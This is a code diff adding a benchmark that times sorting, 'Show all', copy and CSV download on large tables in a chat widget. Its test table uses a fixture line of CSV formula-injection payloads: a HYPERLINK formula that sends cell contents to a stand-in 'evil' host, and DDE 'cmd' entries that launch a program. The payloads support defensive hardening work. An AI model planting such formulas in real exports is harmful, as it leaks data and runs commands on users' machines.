@@ -1,0 +1,88 @@
+// Table actions on hostile tables, part of `npm run bench -- hostile` (bench/hostile.mjs): the
+// longest main-thread task from a press (sort, "Show all", copy and download) until its result is
+// on screen, against the 50 ms budget (docs/hardening.md, docs/charts.md "Tables").
+//
+// METHOD
+// - The table is a stored reply (bench/hostile.mjs's service), opened from history and left to
+//   render completely (every row in the DOM, the first 200 shown) before the trace starts.
+// - sort: one press on the Orders header (numbers, in reverse of the table's order); the window
+//   ends when the header says `aria-sort="ascending"` and the first shown row is the last one.
+// - show all: the "Show all" press, then the table's scroll box scrolled to its middle and end;
+//   the window ends once the rows there are shown.
+// - formula cells: "Copy table" and "Download CSV" on a table of 5,000 formula cells.
+// - Longest `RunTask` (wall clock and CPU time) from the CDP trace, as for the reply shapes.
+import { analyseTrace, startTrace } from './lib.mjs';
+
+const table = (n) =>
+  `| Region | Orders | Total |\n|:--|--:|--:|\n${Array.from({ length: n }, (_, i) => `| Region ${i} | ${n - i} | ${i * 7}.00 |`).join('\n')}\n`;
+const FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "=cmd\\|' /C calc'!A0", '@SUM(1+1)', "+1+cmd\\|' /C calc'!A0", '&#9;=1+1'];
+const formulas = (n) => `| Note | Amount |\n|---|--:|\n${Array.from({ length: n }, (_, i) => `| ${FORMULAS[i % 5]} | ${-i} |`).join('\n')}\n`;
+
+/** In the page: presses the Orders header; true once the sorted order is shown. */
+const sortPress = () => window.__swBenchRoot().querySelectorAll('th button')[1].click();
+const sortDone = (n) => {
+  const root = window.__swBenchRoot();
+  const first = [...root.querySelector('tbody').children].find((r) => !r.hidden);
+  return root.querySelectorAll('th')[1].getAttribute('aria-sort') === 'ascending' && first?.cells[0].textContent === `Region ${n - 1}`;
+};
+const showAllPress = () => [...window.__swBenchRoot().querySelectorAll('.actions button')].find((b) => /^Show all/.test(b.textContent)).click();
+/** In the page: scrolls the table to `f` of its height; true once a row is shown in the box's middle. */
+const scrolledTo = (f) => {
+  const box = window.__swBenchRoot().querySelector('.table-scroll');
+  if (box.dataset.benchAt !== String(f)) (box.scrollTop = (box.scrollHeight - box.clientHeight) * f), (box.dataset.benchAt = String(f));
+  const r = box.getBoundingClientRect();
+  return !!window.__swBenchRoot().elementFromPoint(r.left + 20, r.top + r.height / 2)?.closest('tbody tr');
+};
+const copyPress = () => {
+  window.__swBenchCopied = null;
+  navigator.clipboard.writeText = async (t) => void (window.__swBenchCopied = t);
+  URL.createObjectURL = (b) => ((window.__swBenchBlob = b), 'blob:bench');
+  HTMLAnchorElement.prototype.click = () => undefined;
+  const root = window.__swBenchRoot();
+  root.querySelector('[part~="copy-table-button"]').click();
+  root.querySelector('[part~="download-table-button"]').click();
+};
+const copyDone = () => typeof window.__swBenchCopied === 'string' && !!window.__swBenchBlob;
+
+/** The shapes: [name, reply text, steps (in-page press + done test)]. */
+export const TABLE_SHAPES = [
+  ['sort a table of 3,000 rows', () => table(3_000), [[sortPress, sortDone, 3_000]]],
+  ['sort a table of 25,000 rows', () => table(25_000), [[sortPress, sortDone, 25_000]]],
+  ['sort a table of 130,000 rows (5.4 MB)', () => table(130_000), [[sortPress, sortDone, 130_000]]],
+  ['"Show all" on 25,000 rows, scrolled to the middle and the end', () => table(25_000), [[showAllPress, () => true], [() => 0, scrolledTo, 0.5], [() => 0, scrolledTo, 1]]],
+  ['copy and download 5,000 formula cells', () => formulas(5_000), [[copyPress, copyDone]]],
+];
+
+/** One shape: the stored conversation opened and rendered, then each step traced. */
+export async function measureTableShape(h, service, pageUrl, pageInit, steps) {
+  const context = await h.browser.newContext({ viewport: { width: 1280, height: 800 }, locale: 'en-US' });
+  try {
+    const page = await context.newPage();
+    const errors = [];
+    page.on('pageerror', (e) => errors.push(e.message));
+    await page.goto(pageUrl);
+    await page.evaluate(pageInit, { origin: service.origin });
+    await page.evaluate(() => (window.__swBenchRoot = () => document.querySelector('[data-service-widget]').shadowRoot));
+    const shadow = page.locator('[data-service-widget]');
+    await shadow.locator('[part~="composer-input"]').waitFor();
+    await shadow.locator('[part~="history-button"]').click();
+    await shadow.locator('[part~="history-item"]').first().click();
+    await page.waitForFunction(() => !!window.__swBenchRoot().querySelector('[part~="copy-table-button"]'), null, { timeout: 600_000, polling: 200 });
+    await page.waitForTimeout(500);
+    const cdp = await context.newCDPSession(page);
+    const trace = await startTrace(cdp);
+    await page.evaluate(() => console.timeStamp('bench:start'));
+    const started = Date.now();
+    for (const [press, done, arg] of steps) {
+      await page.evaluate(press);
+      await page.waitForFunction(done, arg, { timeout: 120_000, polling: 50 });
+    }
+    const wallS = (Date.now() - started) / 1000;
+    await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(() => (console.timeStamp('bench:end'), r())))));
+    const traced = analyseTrace(await trace.stop(false), pageUrl);
+    if (errors.length) throw new Error(`page errors: ${errors.join('; ')}`);
+    return { ms: traced.longestMs, cpuMs: traced.longestCpuMs, wallS };
+  } finally {
+    await context.close().catch(() => undefined);
+  }
+}
